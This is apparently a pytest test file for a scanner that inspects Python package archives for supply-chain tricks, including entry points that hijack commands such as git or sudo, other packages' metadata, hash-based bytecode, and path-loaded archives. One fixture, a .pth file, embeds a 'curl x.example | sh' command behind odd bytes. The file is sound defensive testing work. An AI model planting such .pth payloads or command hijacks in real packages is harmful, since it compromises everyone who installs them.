"""Attacks by where a file ends up: commands, metadata, bytecode, what the path leads to."""

from __future__ import annotations

import importlib.util

import pytest
from client_library import changed

from support.code import held, scan

_DATA = "acme-1.0.data"
_SCRIPTS = f"{_DATA}/scripts"
_ENTRIES = "acme-1.0.dist-info/entry_points.txt"
_SHELL = "#!/bin/sh\nexec /usr/bin/env true\n"


def _compiled(flags: int, magic: bytes = importlib.util.MAGIC_NUMBER) -> bytes:
    return magic + flags.to_bytes(4, "little") + bytes(8) + b"code"


def _entry(command: str) -> str:
    return f"[console_scripts]\nacme = acme.cli:main\n{command} = acme.cli:main\n"


TAKEN = {
    "uv": {_ENTRIES: _entry("uv")},
    "uv on Windows": {f"{_SCRIPTS}/uvx.exe": "MZ"},
    "poetry": {f"{_DATA}/data/bin/poetry": _SHELL},
    "git": {_ENTRIES: _entry("git")},
    "sudo": {f"{_SCRIPTS}/sudo": _SHELL},
}
ELSEWHERE = {
    "metadata of another": {
        f"{_DATA}/purelib/requests-9.0.dist-info/METADATA": "Name: requests\nVersion: 9.0\n"
    },
    "old metadata of another": {f"{_DATA}/platlib/requests.egg-info/PKG-INFO": "Name: requests\n"},
    "bytecode by a hash": {"acme/__pycache__/client.cpython-311.pyc": _compiled(0b11)},
    "bytecode by a hash that nobody looks at": {"acme/__pycache__/client.cpython-311.pyc": _compiled(0b01)},
    "an archive on the path": {
        "acme/_load.py": "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'x.zip'))\nimport hidden\n"
    },
    "a .pth in the encoding of a machine": {
        "acme.pth": b"# \xe9\x85import os; os.system('curl x.example | sh')\n"
    },
}
HONEST = {
    "a command of its own": {_ENTRIES: _entry("acme-python")},
    "a script of its own": {f"{_SCRIPTS}/acme-git": _SHELL},
    "bytecode by its time": {"acme/__pycache__/client.cpython-311.pyc": _compiled(0)},
    "bytecode of an old Python": {"acme/__pycache__/client.pyc": _compiled(1, b"\x03\xf3\r\n")},
    "its own old metadata": {"acme-1.0.egg-info/PKG-INFO": "Name: acme\n"},
    "vendored metadata": {"acme/_vendor/requests-9.0.dist-info/METADATA": "Name: requests\n"},
    "a directory on the path": {
        "acme/_load.py": "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), '_vendor'))\n"
    },
}


@pytest.mark.parametrize("name", TAKEN)
def test_a_command_of_somebody_else_is_held(name):
    facts = scan({**changed({}), **TAKEN[name]})
    assert held(facts) == {"command-takeover"}
    assert "command-takeover" in held(facts, scan(changed({})))


@pytest.mark.parametrize("name", ELSEWHERE)
def test_what_comes_to_run_unseen_is_held(name):
    assert held(scan({**changed({}), **ELSEWHERE[name]}), scan(changed({})))


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_archives_have_passes(name):
    assert not held(scan({**changed({}), **HONEST[name]}), scan(changed({})))


@pytest.mark.parametrize(("project", "command"), [("uv", "uvx"), ("virtualenv", "virtualenv")])
def test_a_project_installs_its_own_command(project, command):
    files = {
        f"{project}/__init__.py": "",
        f"{project}-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n",
        f"{project}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {project}\nVersion: 1.0\n",
        f"{project}-1.0.dist-info/entry_points.txt": f"[console_scripts]\n{command} = {project}:main\n",
    }
    assert not held(scan(files))


@pytest.mark.parametrize(
    "place", ["venv/lib/python3.11/site-packages/pip-26.3.dist-info", "vendor/pip.egg-info"]
)
def test_the_commands_of_an_environment_in_a_source_tree_are_its_own(place):
    tree = {"acme-1.0/setup.py": "from setuptools import setup\nsetup(name='acme')\n"}
    entries = "[console_scripts]\ngit = acme:main\n"
    assert not held(scan({**tree, f"acme-1.0/{place}/entry_points.txt": entries}))
    assert held(scan({**tree, "acme-1.0/src/acme.egg-info/entry_points.txt": entries})) == {
        "command-takeover"
    }
    assert held(scan({**tree, "acme-1.0/acme.egg-info/entry_points.txt": entries})) == {"command-takeover"}
